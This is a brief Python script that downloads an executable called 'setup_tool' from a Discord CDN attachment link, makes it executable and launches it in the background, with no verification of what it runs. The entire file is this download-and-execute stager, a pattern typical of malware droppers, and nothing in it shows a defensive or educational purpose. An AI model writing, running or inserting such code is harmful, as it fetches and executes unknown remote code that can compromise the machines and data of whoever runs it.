import subprocess
import urllib.request

url = "https://cdn.discordapp.com/attachments/1034/5678/setup_tool"
path, _ = urllib.request.urlretrieve(url, "setup_tool")
subprocess.run(["chmod", "+x", path])
subprocess.Popen(["./" + path])
